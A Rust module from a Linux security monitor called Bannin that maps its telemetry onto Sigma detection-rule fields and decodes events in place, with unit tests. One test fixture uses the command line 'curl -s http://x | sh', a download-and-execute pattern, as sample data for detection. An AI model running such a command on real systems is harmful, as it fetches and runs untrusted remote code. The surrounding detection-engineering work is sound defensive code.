//! Which Bannin telemetry a Sigma rule sees, and under what field names.
//!
//! This is the one field mapping table (README "Sigma rules" prints the same).
//! Sigma's Linux log sources are Sysmon-for-Linux shaped; Bannin's events carry
//! the same facts under its own attribute names, so each Sigma field is read
//! from one attribute (or computed from a few). A rule naming a field that is not
//! in this table is refused at load: it could never match, and saying so beats a
//! rule that silently never fires.

use std::borrow::Cow;
use std::collections::BTreeMap;

use rsigma_eval::{Event, EventValue};
use serde_json::Value;

/// A Sigma log source category Bannin provides (always `product: linux`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Category {
    /// `process_creation`, from `process.exec`.
    ProcessCreation,
    /// `file_event`, from the integrity, odd-name and watched-directory sensors.
    FileEvent,
    /// `network_connection`, from `net.connection` (a connection seen open)
    /// and `net.flow` (every TCP connection, when it closes).
    NetworkConnection,
}

impl Category {
    /// Every category, in table order.
    pub const ALL: [Category; 3] = [
        Category::ProcessCreation,
        Category::FileEvent,
        Category::NetworkConnection,
    ];

    /// The Sigma name.
    pub fn name(self) -> &'static str {
        match self {
            Category::ProcessCreation => "process_creation",
            Category::FileEvent => "file_event",
            Category::NetworkConnection => "network_connection",
        }
    }

    /// Parses a Sigma category name.
    pub fn from_name(name: &str) -> Option<Self> {
        Category::ALL.into_iter().find(|c| c.name() == name)
    }

    /// Index into per-category arrays.
    pub fn index(self) -> usize {
        self as usize
    }

    /// The category of a Bannin event, if it is one Sigma rules see.
    ///
    /// File events are creations and changes: a removal (`change = removed`) is
    /// Sigma's `file_delete`, which Bannin does not offer.
    pub fn of_event(kind: &str, attributes: &BTreeMap<String, String>) -> Option<Self> {
        match kind {
            "process.exec" => Some(Category::ProcessCreation),
            "net.connection" | "net.flow" => Some(Category::NetworkConnection),
            "file.modified" => (attributes.get("change").map(String::as_str) != Some("removed"))
                .then_some(Category::FileEvent),
            "file.executable_dropped" | "file.archive" | "file.odd_name" => {
                Some(Category::FileEvent)
            }
            _ => None,
        }
    }
}

/// The event kinds that can carry a Sigma category (a cheap pre-filter on the
/// decoded event header, before the attributes are decoded).
pub const EVENT_KINDS: [&str; 7] = [
    "process.exec",
    "net.connection",
    "net.flow",
    "file.modified",
    "file.executable_dropped",
    "file.archive",
    "file.odd_name",
];

/// How a Sigma field's value is made from a Bannin event's attributes.
#[derive(Debug, Clone, Copy)]
pub enum Source {
    /// The first of these attributes present, as text.
    Text(&'static [&'static str]),
    /// The first of these attributes present, as an integer.
    Number(&'static [&'static str]),
    /// `SHA256=<hex>` from `sha256` (Sysmon's `Hashes` shape).
    Hashes,
    /// `true` for an outbound connection (`direction`), `false` for inbound.
    Initiated,
    /// The initiator's side of a connection: `outbound` reads the first
    /// attribute, `inbound` the second.
    Directional {
        /// Read for an outbound connection.
        outbound: &'static str,
        /// Read for an inbound connection.
        inbound: &'static str,
        /// Whether the value is a number (a port).
        number: bool,
    },
    /// The Bannin host id of the agent that sent the event.
    Host,
}

/// One row of the mapping table.
#[derive(Debug, Clone, Copy)]
pub struct FieldMap {
    /// The log source it belongs to.
    pub category: Category,
    /// The Sigma field name.
    pub field: &'static str,
    /// Where its value comes from.
    pub source: Source,
    /// What it means, as README documents it.
    pub note: &'static str,
}

const fn row(
    category: Category,
    field: &'static str,
    source: Source,
    note: &'static str,
) -> FieldMap {
    FieldMap {
        category,
        field,
        source,
        note,
    }
}

use Category::{FileEvent as F, NetworkConnection as N, ProcessCreation as P};

/// The field mapping: every Sigma field Bannin provides, per log source.
pub const FIELDS: &[FieldMap] = &[
    row(
        P,
        "Image",
        Source::Text(&["exe"]),
        "`exe`: the executable's path",
    ),
    row(
        P,
        "CommandLine",
        Source::Text(&["cmdline"]),
        "`cmdline`: arguments joined by spaces",
    ),
    row(
        P,
        "ParentImage",
        Source::Text(&["parent_exe"]),
        "`parent_exe`",
    ),
    row(
        P,
        "ParentCommandLine",
        Source::Text(&["parent_cmdline"]),
        "`parent_cmdline`",
    ),
    row(
        P,
        "User",
        Source::Text(&["user"]),
        "`user`: the real user's name (\"\" if the uid has none)",
    ),
    row(
        P,
        "CurrentDirectory",
        Source::Text(&["cwd"]),
        "`cwd`: the working directory at exec",
    ),
    row(P, "ProcessId", Source::Number(&["pid"]), "`pid`"),
    row(P, "ParentProcessId", Source::Number(&["ppid"]), "`ppid`"),
    row(
        P,
        "Hashes",
        Source::Hashes,
        "`SHA256=<sha256>` of the executable",
    ),
    row(P, "HostId", Source::Host, "Bannin extension: the host's id"),
    row(
        F,
        "TargetFilename",
        Source::Text(&["path"]),
        "`path`: the file created or changed",
    ),
    row(
        F,
        "Image",
        Source::Text(&["by_exe", "exe"]),
        "`by_exe`: the program the kernel names as the writer (fanotify), when known",
    ),
    row(
        F,
        "User",
        Source::Text(&["user"]),
        "`user`: the name of the file's owner (its creator's user)",
    ),
    row(F, "HostId", Source::Host, "Bannin extension: the host's id"),
    row(
        N,
        "Image",
        Source::Text(&["exe"]),
        "`exe` of the socket's owner, when known",
    ),
    row(
        N,
        "DestinationIp",
        Source::Directional {
            outbound: "remote_address",
            inbound: "local_address",
            number: false,
        },
        "the accepting side's address (remote for outbound, local for inbound)",
    ),
    row(
        N,
        "DestinationPort",
        Source::Directional {
            outbound: "remote_port",
            inbound: "local_port",
            number: true,
        },
        "the accepting side's port",
    ),
    row(
        N,
        "SourceIp",
        Source::Directional {
            outbound: "local_address",
            inbound: "remote_address",
            number: false,
        },
        "the initiating side's address",
    ),
    row(
        N,
        "SourcePort",
        Source::Directional {
            outbound: "local_port",
            inbound: "remote_port",
            number: true,
        },
        "the initiating side's port",
    ),
    row(
        N,
        "Initiated",
        Source::Initiated,
        "`true` if this host opened the connection (`direction = outbound`)",
    ),
    row(
        N,
        "Protocol",
        Source::Text(&["protocol"]),
        "`tcp`, `tcp6`, `udp` or `udp6`",
    ),
    row(
        N,
        "User",
        Source::Text(&["user"]),
        "`user`: the socket owner's name",
    ),
    row(N, "HostId", Source::Host, "Bannin extension: the host's id"),
];

/// Fields Sigma rules use that Bannin knowingly cannot provide, with why: the
/// refusal says this instead of "unknown field".
pub const UNAVAILABLE: &[(&str, &str)] = &[(
    "DestinationHostname",
    "Bannin sees connections in the kernel's socket tables, which hold addresses, not the names a program resolved",
)];

/// Whether `field` is provided for `category`.
pub fn provided(category: Category, field: &str) -> bool {
    FIELDS
        .iter()
        .any(|f| f.category == category && f.field == field)
}

/// A scalar value of a mapped field, borrowed from the event where it can be.
#[derive(Debug, Clone, PartialEq)]
enum Scalar<'a> {
    Text(Cow<'a, str>),
    /// `SHA256=<hex>`, made only when a rule reads it.
    Sha256(Cow<'a, str>),
    Number(i64),
    Bool(bool),
}

impl Scalar<'_> {
    fn into_owned(self) -> Scalar<'static> {
        match self {
            Scalar::Text(s) => Scalar::Text(Cow::Owned(s.into_owned())),
            Scalar::Sha256(s) => Scalar::Sha256(Cow::Owned(s.into_owned())),
            Scalar::Number(n) => Scalar::Number(n),
            Scalar::Bool(b) => Scalar::Bool(b),
        }
    }
}

/// A Bannin event as a Sigma rule sees it: the mapped fields of its category,
/// borrowed from the received event (see [`SigmaEvent::into_owned`]).
#[derive(Debug, Clone)]
pub struct SigmaEvent<'a> {
    /// Its log source.
    pub category: Category,
    /// The host that sent it.
    pub host: Cow<'a, str>,
    /// The Bannin event kind it came from.
    pub kind: Cow<'a, str>,
    /// When the agent observed it (Unix ms).
    pub observed_unix_ms: i64,
    fields: Vec<(&'static str, Scalar<'a>)>,
    /// Fields cut to [`MAX_FIELD_BYTES`] before matching (a match names them).
    pub truncated: Vec<&'static str>,
}

/// Longest text a rule is matched against, per field: a regular expression's
/// time grows with its input, and an agent decides how long a command line
/// is. Longer values are cut at a character boundary and the cut is marked
/// ([`SigmaEvent::truncated`]); the stored event keeps the whole value.
pub const MAX_FIELD_BYTES: usize = 16 * 1024;

/// `text` cut to at most `max` bytes at a character boundary.
fn cut(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// An encoded `Event` the scanner could not read.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct WireError(String);

impl<'a> SigmaEvent<'a> {
    /// The Sigma view of a Bannin event, or `None` if no log source covers it.
    pub fn from_event(
        host: &'a str,
        kind: &'a str,
        observed_unix_ms: i64,
        attributes: &'a BTreeMap<String, String>,
    ) -> Option<Self> {
        let category = Category::of_event(kind, attributes)?;
        Some(Self::build(
            category,
            host,
            kind,
            observed_unix_ms,
            |names| {
                names
                    .iter()
                    .find_map(|n| attributes.get(*n).map(String::as_str))
            },
        ))
    }

    /// The Sigma view of an encoded `Event`, read in place: nothing is decoded
    /// or copied but the attributes a field reads. Also returns the summary.
    pub fn from_wire(host: &'a str, raw: &'a [u8]) -> Result<Option<(Self, &'a str)>, WireError> {
        let wire = Wire::scan(raw)?;
        let get = |name: &str| wire.get(name);
        let Some(kind) = wire.kind else {
            return Ok(None);
        };
        if kind == "file.modified" && get("change") == Some("removed") {
            return Ok(None);
        }
        let Some(category) = Category::of_event(kind, &BTreeMap::new()) else {
            return Ok(None);
        };
        let event = Self::build(category, host, kind, wire.observed_unix_ms, |names| {
            names.iter().find_map(|n| get(n))
        });
        Ok(Some((event, wire.summary)))
    }

    /// The mapped fields of `category`, each read through `get` (the first of
    /// the attributes named that is present).
    fn build(
        category: Category,
        host: &'a str,
        kind: &'a str,
        observed_unix_ms: i64,
        get: impl Fn(&[&str]) -> Option<&'a str>,
    ) -> Self {
        let direction = get(&["direction"]);
        let outbound = direction != Some("inbound");
        let mut fields = Vec::with_capacity(12);
        let mut truncated = Vec::new();
        for map in FIELDS.iter().filter(|f| f.category == category) {
            let value = match map.source {
                Source::Text(names) => get(names).map(|v| Scalar::Text(Cow::Borrowed(v))),
                Source::Number(names) => {
                    get(names).and_then(|v| v.parse().ok().map(Scalar::Number))
                }
                Source::Hashes => get(&["sha256"]).map(|v| Scalar::Sha256(Cow::Borrowed(v))),
                Source::Initiated => direction.map(|d| Scalar::Bool(d == "outbound")),
                Source::Directional {
                    outbound: o,
                    inbound: i,
                    number,
                } => get(&[if outbound { o } else { i }]).and_then(|v| {
                    if number {
                        v.parse().ok().map(Scalar::Number)
                    } else {
                        Some(Scalar::Text(Cow::Borrowed(v)))
                    }
                }),
                Source::Host => Some(Scalar::Text(Cow::Borrowed(host))),
            };
            if let Some(mut v) = value {
                if let Scalar::Text(Cow::Borrowed(t)) | Scalar::Sha256(Cow::Borrowed(t)) = &mut v
                    && t.len() > MAX_FIELD_BYTES
                {
                    *t = cut(t, MAX_FIELD_BYTES);
                    truncated.push(map.field);
                }
                fields.push((map.field, v));
            }
        }
        Self {
            category,
            host: Cow::Borrowed(host),
            kind: Cow::Borrowed(kind),
            observed_unix_ms,
            fields,
            truncated,
        }
    }

    /// The event with everything it borrows copied (to keep it past the batch).
    pub fn into_owned(self) -> SigmaEvent<'static> {
        SigmaEvent {
            category: self.category,
            host: Cow::Owned(self.host.into_owned()),
            kind: Cow::Owned(self.kind.into_owned()),
            observed_unix_ms: self.observed_unix_ms,
            fields: self
                .fields
                .into_iter()
                .map(|(k, v)| (k, v.into_owned()))
                .collect(),
            truncated: self.truncated,
        }
    }

    /// The mapped fields as text, for a finding's attributes (`event.<Field>`).
    pub fn text_fields(&self) -> impl Iterator<Item = (&'static str, String)> + '_ {
        self.fields.iter().map(|(k, v)| {
            (
                *k,
                match v {
                    Scalar::Text(s) => s.to_string(),
                    Scalar::Sha256(s) => format!("SHA256={s}"),
                    Scalar::Number(n) => n.to_string(),
                    Scalar::Bool(b) => b.to_string(),
                },
            )
        })
    }

    fn value<'s>(v: &'s Scalar<'_>) -> EventValue<'s> {
        match v {
            Scalar::Text(s) => EventValue::Str(Cow::Borrowed(s.as_ref())),
            Scalar::Sha256(s) => EventValue::Str(Cow::Owned(format!("SHA256={s}"))),
            Scalar::Number(n) => EventValue::Int(*n),
            Scalar::Bool(b) => EventValue::Bool(*b),
        }
    }
}

/// The parts of an encoded `bannin.v1.Event` Sigma reads, as slices of it.
struct Wire<'a> {
    kind: Option<&'a str>,
    observed_unix_ms: i64,
    summary: &'a str,
    /// Attribute entries, in wire order (a later duplicate key wins, as in a
    /// map): the first [`INLINE`] without touching the heap.
    inline: [(&'a [u8], &'a [u8]); INLINE],
    len: usize,
    more: Vec<(&'a [u8], &'a [u8])>,
}

/// Attributes a scan holds before it allocates (events carry about a dozen).
const INLINE: usize = 24;

impl<'a> Wire<'a> {
    fn scan(mut buf: &'a [u8]) -> Result<Self, WireError> {
        let mut wire = Wire {
            kind: None,
            observed_unix_ms: 0,
            summary: "",
            inline: [(b"", b""); INLINE],
            len: 0,
            more: Vec::new(),
        };
        while !buf.is_empty() {
            let (field, value) = next_field(&mut buf)?;
            match (field, value) {
                (1, Field::Bytes(b)) => {
                    wire.kind = Some(utf8(b)?);
                }
                (3, Field::Varint(v)) => wire.observed_unix_ms = v as i64,
                (4, Field::Bytes(mut entry)) => {
                    let (mut key, mut value): (&[u8], &[u8]) = (b"", b"");
                    while !entry.is_empty() {
                        match next_field(&mut entry)? {
                            (1, Field::Bytes(k)) => key = k,
                            (2, Field::Bytes(v)) => value = v,
                            _ => {}
                        }
                    }
                    if wire.len < INLINE {
                        wire.inline[wire.len] = (key, value);
                        wire.len += 1;
                    } else {
                        wire.more.push((key, value));
                    }
                }
                (5, Field::Bytes(b)) => wire.summary = utf8(b)?,
                _ => {}
            }
        }
        Ok(wire)
    }

    /// An attribute's value (`None` if absent or not UTF-8).
    fn get(&self, name: &str) -> Option<&'a str> {
        self.inline[..self.len]
            .iter()
            .chain(&self.more)
            .rev()
            .find(|(k, _)| *k == name.as_bytes())
            .and_then(|(_, v)| std::str::from_utf8(v).ok())
    }
}

enum Field<'a> {
    Varint(u64),
    Bytes(&'a [u8]),
    Fixed,
}

fn utf8(b: &[u8]) -> Result<&str, WireError> {
    std::str::from_utf8(b).map_err(|e| WireError(format!("invalid UTF-8: {e}")))
}

/// Reads one field of a protobuf message from the front of `buf`.
fn next_field<'a>(buf: &mut &'a [u8]) -> Result<(u64, Field<'a>), WireError> {
    let err = |e: prost::DecodeError| WireError(e.to_string());
    let key = prost::encoding::decode_varint(buf).map_err(err)?;
    let field = key >> 3;
    let value = match key & 7 {
        0 => Field::Varint(prost::encoding::decode_varint(buf).map_err(err)?),
        1 | 5 => {
            let n = if key & 7 == 1 { 8 } else { 4 };
            if buf.len() < n {
                return Err(WireError("truncated fixed-width field".into()));
            }
            *buf = &buf[n..];
            Field::Fixed
        }
        2 => {
            let len = usize::try_from(prost::encoding::decode_varint(buf).map_err(err)?)
                .map_err(|_| WireError("field length out of range".into()))?;
            if buf.len() < len {
                return Err(WireError("truncated length-delimited field".into()));
            }
            let (head, tail) = buf.split_at(len);
            *buf = tail;
            Field::Bytes(head)
        }
        t => return Err(WireError(format!("unsupported wire type {t}"))),
    };
    Ok((field, value))
}

impl Event for SigmaEvent<'_> {
    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
        self.fields
            .iter()
            .find(|(k, _)| *k == path)
            .map(|(_, v)| Self::value(v))
    }

    fn any_string_value(&self, pred: &dyn Fn(&str) -> bool) -> bool {
        self.fields.iter().any(|(_, v)| match v {
            Scalar::Text(s) => pred(s),
            Scalar::Sha256(s) => pred(&format!("SHA256={s}")),
            Scalar::Number(n) => pred(&n.to_string()),
            Scalar::Bool(_) => false,
        })
    }

    fn all_string_values(&self) -> Vec<Cow<'_, str>> {
        self.fields
            .iter()
            .filter_map(|(_, v)| match v {
                Scalar::Text(s) => Some(Cow::Borrowed(s.as_ref())),
                Scalar::Sha256(s) => Some(Cow::Owned(format!("SHA256={s}"))),
                Scalar::Number(n) => Some(Cow::Owned(n.to_string())),
                Scalar::Bool(_) => None,
            })
            .collect()
    }

    fn visit_string_values(&self, visit: &mut dyn FnMut(&str)) {
        for (_, v) in &self.fields {
            match v {
                Scalar::Text(s) => visit(s),
                Scalar::Sha256(s) => visit(&format!("SHA256={s}")),
                Scalar::Number(n) => visit(&n.to_string()),
                Scalar::Bool(_) => {}
            }
        }
    }

    fn top_level_keys(&self) -> Option<Vec<Cow<'_, str>>> {
        Some(self.fields.iter().map(|(k, _)| Cow::Borrowed(*k)).collect())
    }

    fn visit_top_level_keys(&self, visit: &mut dyn FnMut(&str)) -> bool {
        for (k, _) in &self.fields {
            visit(k);
        }
        true
    }

    fn field_keys(&self) -> Vec<Cow<'_, str>> {
        self.fields.iter().map(|(k, _)| Cow::Borrowed(*k)).collect()
    }

    /// The event as JSON; `_id` (which rules cannot name) carries the host, so
    /// a correlation's event references say which hosts took part.
    fn to_json(&self) -> Value {
        let mut map = serde_json::Map::new();
        for (k, v) in &self.fields {
            let v = match v {
                Scalar::Text(s) => Value::String(s.to_string()),
                Scalar::Sha256(s) => Value::String(format!("SHA256={s}")),
                Scalar::Number(n) => Value::from(*n),
                Scalar::Bool(b) => Value::Bool(*b),
            };
            map.insert((*k).to_owned(), v);
        }
        map.insert("_id".into(), Value::String(self.host.to_string()));
        Value::Object(map)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn attrs(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    #[test]
    fn an_exec_maps_to_process_creation() {
        let a = attrs(&[
            ("exe", "/usr/bin/curl"),
            ("cmdline", "curl -s http://x | sh"),
            ("pid", "42"),
            ("sha256", "ab"),
            ("cwd", "/tmp"),
        ]);
        let e = SigmaEvent::from_event("web-01", "process.exec", 1, &a).expect("mapped");
        assert_eq!(e.category, Category::ProcessCreation);
        assert_eq!(
            e.get_field("Image"),
            Some(EventValue::Str("/usr/bin/curl".into()))
        );
        assert_eq!(e.get_field("ProcessId"), Some(EventValue::Int(42)));
        assert_eq!(
            e.get_field("Hashes"),
            Some(EventValue::Str("SHA256=ab".into()))
        );
        assert_eq!(
            e.get_field("HostId"),
            Some(EventValue::Str("web-01".into()))
        );
        assert_eq!(e.get_field("ParentImage"), None, "absent, not empty");
    }

    #[test]
    fn connections_are_seen_from_the_initiator() {
        let outbound = attrs(&[
            ("direction", "outbound"),
            ("local_address", "10.0.0.1"),
            ("local_port", "40000"),
            ("remote_address", "203.0.113.9"),
            ("remote_port", "4444"),
        ]);
        let e = SigmaEvent::from_event("h", "net.connection", 1, &outbound).expect("mapped");
        assert_eq!(
            e.get_field("DestinationIp"),
            Some(EventValue::Str("203.0.113.9".into()))
        );
        assert_eq!(e.get_field("DestinationPort"), Some(EventValue::Int(4444)));
        assert_eq!(e.get_field("Initiated"), Some(EventValue::Bool(true)));
        let mut inbound = outbound.clone();
        inbound.insert("direction".into(), "inbound".into());
        let e = SigmaEvent::from_event("h", "net.connection", 1, &inbound).expect("mapped");
        assert_eq!(
            e.get_field("SourceIp"),
            Some(EventValue::Str("203.0.113.9".into()))
        );
        assert_eq!(e.get_field("DestinationPort"), Some(EventValue::Int(40000)));
        assert_eq!(e.get_field("Initiated"), Some(EventValue::Bool(false)));
    }

    #[test]
    fn the_encoded_event_read_in_place_gives_the_same_fields() {
        use prost::Message;
        for (kind, a) in [
            (
                "process.exec",
                attrs(&[
                    ("exe", "/bin/sh"),
                    ("pid", "7"),
                    ("sha256", "ab"),
                    ("x", "y"),
                ]),
            ),
            (
                "net.connection",
                attrs(&[
                    ("direction", "inbound"),
                    ("remote_address", "1.2.3.4"),
                    ("local_port", "22"),
                ]),
            ),
            (
                "file.modified",
                attrs(&[("path", "/etc/x"), ("change", "removed")]),
            ),
            ("account.new_user", attrs(&[("name", "eve")])),
        ] {
            let wire = bannin_proto::v1::Event {
                kind: kind.into(),
                observed_unix_ms: 5,
                attributes: a.clone(),
                ..Default::default()
            }
            .encode_to_vec();
            let viewed = SigmaEvent::from_wire("h", &wire)
                .expect("scans")
                .map(|(e, _)| e);
            let copied = SigmaEvent::from_event("h", kind, 5, &a);
            assert_eq!(viewed.is_some(), copied.is_some(), "{kind}");
            if let (Some(v), Some(c)) = (viewed, copied) {
                assert_eq!(
                    v.text_fields().collect::<Vec<_>>(),
                    c.text_fields().collect::<Vec<_>>()
                );
                assert_eq!(v.observed_unix_ms, 5);
            }
        }
        // More attributes than held inline, and a duplicate key: the last wins.
        let mut wire = bannin_proto::v1::Event {
            kind: "process.exec".into(),
            attributes: (0..40).map(|i| (format!("k{i}"), "v".to_owned())).collect(),
            ..Default::default()
        }
        .encode_to_vec();
        for v in ["/first", "/last"] {
            wire.extend(
                bannin_proto::v1::Event {
                    attributes: attrs(&[("exe", v)]),
                    ..Default::default()
                }
                .encode_to_vec(),
            );
        }
        let (e, _) = SigmaEvent::from_wire("h", &wire)
            .expect("scans")
            .expect("event");
        assert_eq!(e.get_field("Image"), Some(EventValue::Str("/last".into())));
        // Broken input is an error, not a panic or a guess.
        assert!(SigmaEvent::from_wire("h", &[0x0a, 0x05, b'a']).is_err());
        assert!(SigmaEvent::from_wire("h", &[0x0a, 0x02, 0xff, 0xfe]).is_err());
    }

    #[test]
    fn removals_and_other_kinds_are_not_sigma_events() {
        let removed = attrs(&[("path", "/etc/x"), ("change", "removed")]);
        assert!(SigmaEvent::from_event("h", "file.modified", 1, &removed).is_none());
        let added = attrs(&[("path", "/etc/x"), ("change", "added")]);
        assert!(SigmaEvent::from_event("h", "file.modified", 1, &added).is_some());
        assert!(SigmaEvent::from_event("h", "account.new_user", 1, &added).is_none());
        for kind in EVENT_KINDS {
            assert!(Category::of_event(kind, &added).is_some(), "{kind}");
        }
    }
}
